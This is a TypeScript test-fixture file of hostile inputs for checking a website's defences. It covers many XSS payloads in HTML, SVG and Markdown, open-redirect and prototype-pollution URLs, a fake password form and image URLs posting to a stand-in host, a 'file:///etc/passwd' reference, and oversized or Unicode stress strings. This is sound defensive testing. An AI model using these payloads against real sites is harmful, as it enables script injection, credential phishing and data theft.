import { composed, textFault } from "#contract/text.js";

/**
 * Hostile text for every input of the site. Each tries something else; if it worked, it would set `window.ran
 * = true` or send a request to ELSEWHERE.
 */

const RUN = "window.ran = true";
export const ELSEWHERE = "https://elsewhere.example";

/** Markup, for every place that shows text. */
export const MARKUP: Readonly<Record<string, string>> = {
  "a script": `<script>${RUN}</script>`,
  "a script after the end of another": `</script><script>${RUN}</script>`,
  "a script after the end of everything": `</textarea></title></style></noscript></template>--><script>${RUN}</script>`,
  "a script inside a script's tag": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  "a script as CDATA": `<![CDATA[<script>${RUN}</script>]]>`,
  "an image that fails": `<img src=x onerror="${RUN}">`,
  "an image without spaces": `<img/src=x/onerror=${RUN.replaceAll(" ", "")}>`,
  "an image from elsewhere": `<img src="${ELSEWHERE}/image" srcset="${ELSEWHERE}/set 2x" alt="">`,
  "a drawing that loads": `<svg onload="${RUN}"><use href="data:image/svg+xml,x"/></svg>`,
  "a drawing that moves": `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  "a drawing with a link": `<svg><a xlink:href="javascript:${RUN}"><text y="20">a</text></a></svg>`,
  "a formula that becomes markup": `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror='${RUN}'>">`,
  "a page in a frame": `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  "a page as an object": `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="${ELSEWHERE}/embed">`,
  "a link that runs": `<a href="javascript:${RUN}" id="trap">a</a>`,
  "a link that tells": `<a href="${ELSEWHERE}" ping="${ELSEWHERE}/ping" target="_blank" rel="opener">a</a>`,
  "details that open": `<details open ontoggle="${RUN}">x</details>`,
  "a banner that starts": `<marquee onstart="${RUN}">x</marquee>`,
  "a field that takes the focus": `<input autofocus onfocus="${RUN}">`,
  "styles for everything": `<style>body { background: url(${ELSEWHERE}/style); display: none }</style>`,
  "a style sheet from elsewhere": `<link rel="stylesheet" href="${ELSEWHERE}/link"><link rel="prefetch" href="${ELSEWHERE}/prefetch">`,
  "a refresh": `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh">`,
  "another base": `<base href="${ELSEWHERE}/">`,
  "a form for passwords": `<form action="${ELSEWHERE}"><input type="password" name="password"><button>Sign in</button></form>`,
  "a film and a sound": `<video src="${ELSEWHERE}/video" autoplay></video><audio src="${ELSEWHERE}/audio" autoplay></audio>`,
  "a cover over everything": `<div style="position:fixed;inset:0;z-index:9;background:url(${ELSEWHERE}/fixed)">x</div>`,
  "a dialog over everything": `<dialog open id="over" style="position:fixed;inset:0">x</dialog><button popovertarget="over">x</button>`,
  "classes and names of ours": `<p id="root" class="skip unseen">x</p><p id="main">x</p><form name="documentElement"></form>`,
  "data of ours": `<script id="page-data" type="application/json">{"product":null}</script>`,
  "a comment that never ends": `<!-- every page -->x<!-- ${RUN}`,
  "a title in a template": `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
};

/** Markdown, for readmes. Everywhere else it is plain text. */
export const MARKDOWN: Readonly<Record<string, string>> = {
  "Markdown: a link that runs": `[link](javascript:${RUN.replaceAll(" ", "")})`,
  "Markdown: a link that runs, in strange letters": `[link](JaVaScRiPt:${RUN.replaceAll(" ", "")})`,
  "Markdown: a link that runs, as a reference to characters": `[link](&#106;ava&Tab;script&colon;${RUN.replaceAll(" ", "")})`,
  "Markdown: a link that runs, after a control character": `[link](<\u0001javascript:${RUN}>)`,
  "Markdown: a link to data": `[link](data:text/html,<script>${RUN.replaceAll(" ", "")}</script>)`,
  "Markdown: a link to a Basic script": "[link](vbscript:x)",
  "Markdown: a link to wherever the page is from": "[link](//elsewhere.example/x)",
  "Markdown: a link defined elsewhere": `[reference][r]\n\n[r]: javascript:${RUN.replaceAll(" ", "")}`,
  "Markdown: an address that runs": `<javascript:${RUN.replaceAll(" ", "")}>`,
  "Markdown: a picture from elsewhere": `![image](${ELSEWHERE}/image.png)`,
  "Markdown: a picture that runs": `![image](javascript:${RUN.replaceAll(" ", "")})`,
  "Markdown: a picture with a handler": `![image](x"onerror="${RUN.replaceAll(" ", "")})`,
  "Markdown: a picture of data": `![image](data:image/svg+xml,<svg/onload=${RUN.replaceAll(" ", "")}>)`,
  "Markdown: code in a strange language": `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  "Markdown: a footnote with a script": `[^1]\n\n[^1]: <script>${RUN}</script>`,
  "Markdown: a task with a field": `- [x] <input autofocus onfocus="${RUN}">`,
  "Markdown: one heading of 3,000 letters": `# ${"W".repeat(3_000)}`,
  "Markdown: one link of 4,000 letters": `[${"W".repeat(2_000)}](https://example.com/${"w".repeat(2_000)})`,
  "Markdown: a table of 60 columns": `|${"a|".repeat(60)}\n|${"-|".repeat(60)}\n|${"wide|".repeat(60)}`,
  "Markdown: quotes of 60 levels": `${"> ".repeat(60)}deep`,
  "Markdown: lists of 60 levels": `${"* ".repeat(60)}deep`,
  "Markdown: quotes of 20,000 levels": `${">".repeat(20_000)} deep`,
  "Markdown: 10,000 brackets": "[".repeat(10_000),
  "Markdown: 10,000 stars": `${"*a ".repeat(5_000)}${"**a ".repeat(2_500)}`,
};

/** Unusual text without markup. */
export const TEXT: Readonly<Record<string, string>> = {
  "words that fill templates": "$& $1 $` {{count}} $t(nav.help) %s %{x}",
  "words that objects have": "__proto__ constructor toString undefined null NaN",
  "one word of 400 letters": "W".repeat(400),
  "one word of 100,000 letters": "W".repeat(100_000),
  "one word of 50,000 letters that join": "\u0628".repeat(50_000),
  "lines without words": `x${"\n".repeat(300)}y`,
  "letters that turn around": "\u202eturned\u202c \u2066isolated\u2069 \ufeff\u200b",
  "marks above marks": `Z${"\u0301\u0302\u0303\u0304".repeat(80)}`,
  "signs of terminals": "\u0007\u001b[31mred\u001b[0m\u001b]8;;https://elsewhere.example\u0007link",
  "faces of many parts": "👩‍👩‍👧‍👦🏳️‍🌈".repeat(30),
};

/** Hostile URLs of pages that read them, without the origin. */
export const ADDRESSES: Readonly<Record<string, string>> = {
  "a search for a script": `/explore?${new URLSearchParams({ q: MARKUP["a script"] ?? "" })}`,
  "filters that are markup": `/explore?${new URLSearchParams({ q: "zqxj", author: MARKUP["an image that fails"] ?? "", page: "<b>" })}`,
  "filters that objects have": "/explore?category=__proto__&sort=constructor&free=toString",
  "a page before the first": "/explore?page=-7",
  "a page after the last": "/explore?page=999999999999999999999",
  "a search of 5,000 letters": `/explore?q=${"W".repeat(5_000)}`,
  "a search that is no text": "/explore?q=%E0%A4%A&author=%00",
  "a return that runs": `/login?return=${encodeURIComponent(`javascript:${RUN}`)}`,
  "a return to elsewhere": `/login?return=${encodeURIComponent(ELSEWHERE)}`,
  "a return to elsewhere without a scheme": "/login?return=//elsewhere.example/x",
  "a return to elsewhere with the other slash": "/login?return=/%5Celsewhere.example/x",
  "a product named like markup": `/p/${encodeURIComponent(MARKUP["an image that fails"] ?? "")}`,
  "a file and a version named like markup": `/p/never-was-here/files?${new URLSearchParams({ file: MARKUP["an image that fails"] ?? "", version: "__proto__" })}#L1-L9`,
  "entries of the log about markup": `/log?${new URLSearchParams({ product: MARKUP["an image that fails"] ?? "", before: "<b>" })}`,
  "a person named like markup": `/u/${encodeURIComponent(MARKUP["an image that fails"] ?? "")}`,
  "a fragment that is markup": `/explore#${MARKUP["an image that fails"]}`,
};

/** The same for pages that require a session. */
export const INNER_ADDRESSES: Readonly<Record<string, string>> = {
  "an outcome that is markup": `/sales?processor=${encodeURIComponent(MARKUP["a script"] ?? "")}`,
  "an outcome that objects have": "/sales?processor=__proto__",
  "a conversation named like markup": `/messages/${encodeURIComponent(MARKUP["an image that fails"] ?? "")}`,
  "a product to publish that is markup": `/publish?product=${encodeURIComponent(MARKUP["a script"] ?? "")}`,
  "a library that is searched for markup": `/library?q=${encodeURIComponent(MARKUP["a script"] ?? "")}`,
  "days that are no days": "/dashboard?days=-1&range=__proto__",
  "a code that is markup": `/cli/auth?code=${encodeURIComponent(MARKUP["a script"] ?? "")}`,
};

/** Hostile values of a picture's URL in the database. */
export const PICTURES: Readonly<Record<string, string>> = {
  "a picture that runs": `javascript:${RUN}`,
  "a picture of data": `data:image/svg+xml,<svg onload="${RUN}"/>`,
  "a picture that can be read on the way": "http://elsewhere.example/picture.png",
  "a picture without a scheme": "//elsewhere.example/picture.png",
  "a picture of this machine": "file:///etc/passwd",
  "a picture that calls the API": "/api/users/delete-account",
};

/** Names of files in an archive. */
export const FILE_NAMES: readonly string[] = [
  `<img src=x onerror="${RUN}">.md`,
  `"><script>${RUN}<script>.md`,
  "javascript:alert(1).md",
  `${"W".repeat(200)}.md`,
  "{{count}} $t(nav.help).md",
];

/** Whether the API accepts a text with line breaks. */
export const isClean = (text: string): boolean => textFault(composed(text), "lines") === undefined;

/** Everything that is short enough for any place and that the API accepts. */
export const EVERYTHING: readonly string[] = Object.values({ ...MARKUP, ...MARKDOWN, ...TEXT }).filter(
  (input) => input.length <= 500 && isClean(input),
);

/** Joins the inputs into as few texts as their maximum length allows. */
export function inTexts(inputs: readonly string[], most: number): string[] {
  const texts: string[] = [];
  for (const input of inputs) {
    const longer = `${texts.at(-1) ?? ""}\n${input}`;
    if (texts.length > 0 && longer.length <= most) texts[texts.length - 1] = longer;
    else texts.push(input.slice(0, most));
  }
  return texts;
}
